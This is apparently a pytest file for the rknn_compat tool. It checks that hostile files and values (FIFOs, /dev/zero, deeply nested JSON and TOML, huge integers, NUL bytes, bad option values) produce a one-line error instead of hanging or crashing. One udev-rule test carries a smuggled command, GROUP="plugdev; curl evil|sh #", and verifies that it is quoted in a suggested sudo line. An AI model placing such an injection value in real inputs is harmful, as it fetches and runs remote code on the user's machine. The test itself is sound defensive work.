"""Hostile files and values on the host side: a one-line error with the contract's exit code, never a
traceback, a hang or unbounded memory (reliability audit, sections 1, 2, 3, 5 and 9).

Anything that hung before the fix runs as a subprocess with a timeout, so a regression fails the
test instead of stopping the suite.
"""

from __future__ import annotations

import math
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import run_cli, run_subprocess

import rknn_compat
from rknn_compat import tables
from rknn_compat.errors import UsageError
from rknn_compat.host import udev
from rknn_compat.host.usb import check_usb_access
from rknn_compat.lab_inventory import read_devices_file

REPO_MATRICES = Path(__file__).resolve().parents[1] / "matrices"
RECORDING = Path(__file__).parent / "data" / "recordings" / "rk1808-linux-1.3.2.json"
HANG = 20  # seconds after which a subprocess counts as hung


def _one_line(res, code: int = 2) -> str:
    assert res.returncode == code, res
    lines = res.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("rknn-compat: error: "), res
    return lines[0]


@pytest.fixture
def fifo(tmp_path):
    path = tmp_path / "fifo"
    os.mkfifo(path)
    return path


# ----------------------------------------------------------------------------- --devices


@pytest.mark.parametrize("content", ["", "\n\n  \n", "# a rack\n# 127.0.0.1:7010\n   # more\n", "\ufeff# only\n"])
def test_devices_file_naming_no_board_is_a_usage_error(tmp_path, content):
    """Audit: an empty or comments-only file probed every board the adb server listed (19, exit 1)."""
    path = tmp_path / "devices.txt"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(UsageError, match="names no board"):
        read_devices_file(path)
    line = _one_line(run_cli("inventory", "--devices", str(path), "--toolkit", "1.3.2"))
    assert "names no board" in line


def test_devices_file_with_a_bom_reads_the_first_board(tmp_path):
    """Audit: a BOM made the first board "not found" (\\ufeff127.0.0.1:7010)."""
    path = tmp_path / "devices.txt"
    path.write_bytes("\ufeff127.0.0.1:7010\r\nserial-2 # two\n".encode())
    assert read_devices_file(path) == ["127.0.0.1:7010", "serial-2"]


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "directory", "too large"])
def test_devices_file_that_is_not_a_small_regular_file_is_refused(tmp_path, fifo, kind):
    """Audit: a FIFO blocked for ever, /dev/zero read until MemoryError."""
    path = {"fifo": str(fifo), "/dev/zero": "/dev/zero", "directory": str(tmp_path)}.get(kind)
    if kind == "too large":
        path = str(tmp_path / "big.txt")
        Path(path).write_bytes(b"# x\n" * (2 << 20))
    started = time.monotonic()
    res = run_subprocess("inventory", "--devices", path, "--toolkit", "1.3.2", timeout=HANG)
    line = _one_line(res)
    assert path in line and ("regular file" in line or "directory" in line or "larger than" in line), line
    assert time.monotonic() - started < HANG / 2


def test_nul_in_a_file_name_given_to_the_api_is_a_usage_error(tmp_path):
    """Audit (API): devices_file and record with a NUL raised ValueError: embedded null byte."""
    with pytest.raises(UsageError):
        rknn_compat.inventory(devices_file="dev\x00ices.txt", toolkit="1.3.2")
    with pytest.raises(UsageError):
        rknn_compat.probe("fixture:" + str(RECORDING), toolkit="1.3.2", record=str(tmp_path / "a\x00b"))
    with pytest.raises(UsageError):
        rknn_compat.probe("fixture:rec\x00.json", toolkit="1.3.2")


# ----------------------------------------------------------------------------- recordings


def _deep_json(tmp_path) -> str:
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    return str(path)


def _huge_int(tmp_path) -> str:
    path = tmp_path / "int.json"
    path.write_text('{"format": "rknn-compat-recording/1", "runs": [{"stdout_b64": "", "exit_code": '
                    + "9" * 5000 + "}]}")
    return str(path)


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "directory", "deep JSON", "5000-digit integer", "empty name"])
def test_recording_that_is_not_a_recording_is_refused(tmp_path, fifo, kind):
    """Audit: fixture:FIFO blocked for ever, /dev/zero ran to MemoryError, 100 000-deep JSON a RecursionError."""
    path = {"fifo": str(fifo), "/dev/zero": "/dev/zero", "directory": str(tmp_path), "empty name": ""}.get(kind)
    if kind == "deep JSON":
        path = _deep_json(tmp_path)
    elif kind == "5000-digit integer":
        path = _huge_int(tmp_path)
    res = run_subprocess("probe", "--device", "fixture:" + path, "--toolkit", "1.3.2", timeout=HANG)
    _one_line(res)


def test_recording_to_a_fifo_nobody_reads_is_refused_at_once(tmp_path, fifo):
    res = run_subprocess("probe", "--device", "fixture:" + str(RECORDING), "--toolkit", "1.3.2",
                         "--record", str(fifo), timeout=HANG)
    assert "a FIFO nobody reads" in _one_line(res)


# ----------------------------------------------------------------------------- matrices


def _copy(tmp_path) -> Path:
    d = tmp_path / "m"
    shutil.copytree(REPO_MATRICES, d)
    return d


def _append(d: Path, name: str, text: str) -> None:
    with open(d / name, "a", encoding="utf-8") as fh:
        fh.write(text)


MATRIX_BREAKERS = {
    # audit: RecursionError / ValueError (4 300-digit limit) escaped the loader, exit 1
    "10 000-deep arrays": ("components.toml", "\nx = " + "[" * 10_000 + "]" * 10_000 + "\n", "nested too deeply"),
    "5 000-deep inline tables": ("components.toml", "\ny = " + "{a = " * 5000 + "1" + "}" * 5000 + "\n",
                                 "nested too deeply"),
    "5 000-digit integer": ("onnx.toml", "\n[[onnx]]\nopset = " + "9" * 5000 + "\n", "invalid TOML"),
}


@pytest.mark.parametrize("name", sorted(MATRIX_BREAKERS))
@pytest.mark.parametrize("how", ["--matrices", "RKNN_COMPAT_MATRICES"])
def test_parser_limits_in_a_matrix_are_exit_2_with_the_file(tmp_path, name, how):
    filename, text, reason = MATRIX_BREAKERS[name]
    d = _copy(tmp_path)
    _append(d, filename, text)
    if how == "--matrices":
        res = run_cli("matrix", "--matrices", str(d))
    else:
        res = run_cli("matrix", env={**os.environ, "RKNN_COMPAT_MATRICES": str(d)})
    line = _one_line(res)
    assert str(d / filename) in line and reason in line, line


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_a_matrix_table_that_is_not_a_regular_file_is_refused(tmp_path, kind):
    d = _copy(tmp_path)
    (d / "onnx.toml").unlink()
    if kind == "fifo":
        os.mkfifo(d / "onnx.toml")
    else:
        os.symlink("/dev/zero", d / "onnx.toml")
    res = run_subprocess("matrix", "--matrices", str(d), timeout=HANG)
    assert "not a regular file" in _one_line(res)


def test_a_matrix_directory_the_user_cannot_enter_is_exit_2(tmp_path):
    """Audit: PermissionError from Path.is_file() on a directory without x, a traceback (exit 1)."""
    d = _copy(tmp_path)
    d.chmod(0o600)
    try:
        argv = [sys.executable, "-m", "rknn_compat", "matrix", "--matrices", str(d)]
        if os.geteuid() == 0:  # root enters anything: run without the capabilities that allow it, as the audit did
            setpriv = shutil.which("setpriv")
            if setpriv is None:
                pytest.skip("running as root without setpriv")
            argv = [setpriv, "--bounding-set=-dac_override,-dac_read_search", *argv]
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=HANG)
        line = _one_line(proc)
        assert "Permission denied" in line and str(d) in line, line
    finally:
        d.chmod(0o755)


def test_empty_matrices_option_is_an_error_not_the_packaged_tables():
    """Audit: `--matrices ""` silently used the packaged tables (exit 0)."""
    assert "--matrices is empty" in _one_line(run_cli("matrix", "--matrices", ""))


def test_a_matrix_path_with_a_newline_is_echoed_on_one_line(tmp_path):
    line = _one_line(run_cli("matrix", "--matrices", str(tmp_path / "a\nb")))
    assert "a\\x0ab" in line


def _with_rows(tmp_path, toolkits) -> Path:
    """A matrix copy whose components.toml gets one more copy of its first row per toolkit given
    (``None``: the first row's own toolkit spelled ``v1.x.y``, a duplicate)."""
    d = _copy(tmp_path)
    text = (d / "components.toml").read_text(encoding="utf-8")
    first = text.index("[[release]]")
    row = text[first:text.index("[[release]]", first + 1)]
    # the row's own cells and source only (its notes and cites would pass the 4 MiB table cap at 10 000 rows)
    row = "".join(ln + "\n" for ln in row.splitlines() if ln.split(" ", 1)[0] in (
        "[[release]]", "toolkit", "rknn_server", "npu_driver", "librknn_runtime", "source", "section"))
    line = next(ln for ln in row.splitlines() if ln.startswith("toolkit"))
    rows = [row.replace(line, f'toolkit = "{t}"' if t else line.replace('"', '"v', 1)) for t in toolkits]
    (d / "components.toml").write_text(text + "\n" + "\n".join(rows), encoding="utf-8")
    return d


def test_ten_thousand_rows_load_in_linear_time(tmp_path):
    """Audit: the duplicate check was O(n^2): 10 000 rows took 16.6 s."""
    d = _with_rows(tmp_path, [f"{9 + i // 10_000}.{i // 100 % 100}.{i % 100}" for i in range(10_000)])
    started = time.monotonic()
    m = tables.load(d)
    took = time.monotonic() - started
    assert len([r for r in m.releases if r.generation == "rknpu1"]) > 10_000
    assert took < 6, took


def test_a_duplicate_among_many_rows_is_still_named(tmp_path):
    d = _with_rows(tmp_path, [None])
    line = _one_line(run_cli("matrix", "--matrices", str(d)))
    assert "duplicate toolkit" in line and "release 1" in line


@pytest.mark.parametrize("size", [3 << 20, 120_000])
def test_a_huge_bad_value_is_echoed_cut_to_a_sane_length(tmp_path, size):
    """Audit: a 5 MB wrong-typed TOML value became a 5 MB stderr line (3 MB here: tables are capped at
    4 MiB now); a 120 KB --toolkit a 120 KB one."""
    if size > 1 << 20:
        d = _copy(tmp_path)
        text = (d / "onnx.toml").read_text(encoding="utf-8")
        text = text.replace("opset = ", f'opset = "{"7" * size}"  # ', 1)
        (d / "onnx.toml").write_text(text, encoding="utf-8")
        res = run_cli("matrix", "--matrices", str(d))
    else:
        res = run_cli("matrix", "--toolkit", "1" * size)
    line = _one_line(res)
    assert len(line) < 1200 and "characters cut" in line, len(line)


# ----------------------------------------------------------------------------- usb


def test_a_fifo_rules_file_is_unreadable_not_a_hang(tmp_path):
    """Audit: a FIFO named 91-rk.rules hung open() for ever."""
    rules = tmp_path / "rules.d"
    rules.mkdir()
    os.mkfifo(rules / "91-rk.rules")
    (rules / "92-ok.rules").write_text(udev.RULE_TEXT)
    res = run_subprocess("usb", "--rules-dir", str(rules), "--format", "json", timeout=HANG)
    assert res.returncode in (0, 1, 3), res
    files = {Path(f["path"]).name: f for f in res.json["rule_files"]}
    assert files["91-rk.rules"]["status"] == "unreadable" and files["91-rk.rules"]["detail"] == "not a regular file"
    assert res.json["rule_installed"] is True


def test_a_fifo_sysfs_attribute_reads_as_absent(tmp_path):
    """Audit: a FIFO as a sysfs attribute hung open() in rockchip_usb_devices."""
    dev = tmp_path / "sys" / "1-1"
    dev.mkdir(parents=True)
    (dev / "idVendor").write_text("2207\n")
    (dev / "idProduct").write_text("0006\n")
    os.mkfifo(dev / "product")
    code = ("from rknn_compat.host.usb import rockchip_usb_devices as r; "
            f"d = r({str(tmp_path / 'sys')!r}, {str(tmp_path / 'dev')!r}); print(d[0].product_id, d[0].product)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=HANG)
    assert proc.stdout.split() == ["0006", "None"], proc


def test_rules_dir_that_is_not_a_directory_is_a_usage_error(tmp_path):
    assert "not a directory" in _one_line(run_cli("usb", "--rules-dir", str(tmp_path / "nope")))


@pytest.mark.parametrize("mode", ["0o666", "7" * 5000, "", "0x1b6"])
def test_mode_must_be_octal_digits_as_udev_reads_it(tmp_path, mode):
    """Audit: MODE="0o666" and a 5 000-digit octal were taken as world read+write."""
    (tmp_path / "91-rk.rules").write_text(f'SUBSYSTEM=="usb", ATTR{{idVendor}}=="2207", MODE="{mode}"\n')
    (match,) = udev.find_rules([tmp_path])
    assert not match.grants and "not an octal mode" in match.problem


def test_group_pasted_into_the_usermod_remedy_is_quoted(tmp_path):
    """Audit: GROUP="plugdev; curl evil|sh #" was pasted unquoted into a `sudo usermod` line."""
    (tmp_path / "91-rk.rules").write_text(
        'SUBSYSTEM=="usb", ATTR{idVendor}=="2207", MODE="0660", GROUP="plugdev; curl evil|sh #"\n')
    sysfs = tmp_path / "sys" / "1-1"
    sysfs.mkdir(parents=True)
    for name, value in (("idVendor", "2207"), ("idProduct", "0006"), ("busnum", "1"), ("devnum", "2")):
        (sysfs / name).write_text(value + "\n")
    node = tmp_path / "dev" / "001" / "002"
    node.parent.mkdir(parents=True)
    node.write_text("")
    report = check_usb_access(rules_dirs=[tmp_path], sysfs_root=tmp_path / "sys", dev_root=tmp_path / "dev",
                              access=lambda path, how: False, platform="linux", in_group=lambda g: False)
    assert report.status == "no_access"
    assert "sudo usermod -aG 'plugdev; curl evil|sh #' $USER" in report.remedy


def test_merged_usr_file_is_not_overridden_by_itself(tmp_path):
    """Audit: with /lib -> usr/lib every /usr/lib rules file was "overridden by" itself."""
    real = tmp_path / "usr" / "lib" / "udev" / "rules.d"
    real.mkdir(parents=True)
    (real / "50-x.rules").write_text(udev.RULE_TEXT)
    (tmp_path / "lib").symlink_to(tmp_path / "usr" / "lib")
    scan = udev.scan_rules([tmp_path / "lib" / "udev" / "rules.d", real])
    assert [f.status for f in scan.files] == ["parsed"]


# ----------------------------------------------------------------------------- option values


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e308", "0", "-1", "abc", "86401"])
@pytest.mark.parametrize("command", ["probe", "inventory"])
def test_bad_timeout_is_one_line_exit_2(command, value):
    """Audit: nan/inf/1e308 passed `timeout <= 0` and crashed in settimeout (exit 1)."""
    device = ["--device", "fixture:" + str(RECORDING)]
    line = _one_line(run_cli(command, *device, "--toolkit", "1.3.2", "--timeout", value))
    assert "--timeout" in line


@pytest.mark.parametrize("value", ["0", "-1", "10000", "abc"])
def test_bad_jobs_is_one_line_exit_2(value):
    assert "--jobs" in _one_line(run_cli("inventory", "--device", "x", "--toolkit", "1.3.2", "--jobs", value))


@pytest.mark.parametrize("kw", [{"timeout": math.nan}, {"timeout": "3"}, {"timeout": True}, {"device": 5},
                                {"device": ""}])
def test_bad_api_values_are_usage_errors(kw):
    """Audit (API): timeout=nan, timeout="3" and device=5 raised ValueError/TypeError."""
    kw = {"device": "fixture:" + str(RECORDING), **kw}
    with pytest.raises(UsageError):
        rknn_compat.probe(toolkit="1.3.2", **kw)


def test_api_inventory_of_one_string_is_one_board(monkeypatch):
    """Audit (API): inventory(devices="127.0.0.1:7010") probed the boards '1', '2', '7', '.', ..."""
    seen = []

    def fake_probe(device=None, **kw):
        seen.append(device)
        raise UsageError("stop here")

    from rknn_compat import lab_inventory
    from rknn_compat.transport import adb as adb_mod

    monkeypatch.setattr(lab_inventory, "probe", fake_probe)
    monkeypatch.setattr(adb_mod, "list_devices", lambda adb, timeout=10, **kw: [])
    inv = rknn_compat.inventory(devices="127.0.0.1:7010", toolkit="1.3.2")
    assert seen == ["127.0.0.1:7010"] and len(inv.boards) == 1


# ----------------------------------------------------------------------------- simulate


@pytest.mark.parametrize("args", [["--port", "70000", "rk1808-linux-1.3.2"], ["--port", "-1", "rk1808-linux-1.3.2"],
                                  ["--port", "65535", "rk1808-linux-1.3.2", "rk1808-linux-1.1.0"]])
def test_simulate_bad_port_is_one_line(args):
    """Audit: --port 70000 and --port -1 were OverflowError tracebacks (exit 1)."""
    assert "port" in _one_line(run_cli("simulate", *args))


@pytest.mark.parametrize("fault", ["latency_ms=-5", "drop_after_bytes=-1", "stall=a;b"])
def test_simulate_negative_or_odd_fault_values_are_refused(fault):
    """Audit: latency_ms=-5 and drop_after_bytes=-1 were accepted silently."""
    from rknn_compat.sim import ProfileError, load_profile

    with pytest.raises(ProfileError):
        load_profile("rk1808-linux-1.3.2+" + fault)


def test_simulate_a_fifo_profile_is_refused(fifo):
    res = run_subprocess("simulate", str(fifo) + ".toml", timeout=HANG)  # no such file
    _one_line(res)
    target = Path(str(fifo) + ".toml")
    target.symlink_to(fifo)
    assert "not a regular file" in _one_line(run_subprocess("simulate", str(target), timeout=HANG))


def test_simulate_a_deeply_nested_profile_is_refused(tmp_path):
    path = tmp_path / "deep.toml"
    path.write_text("x = " + "[" * 10_000 + "]" * 10_000 + "\n")
    assert "nested too deeply" in _one_line(run_cli("simulate", str(path)))
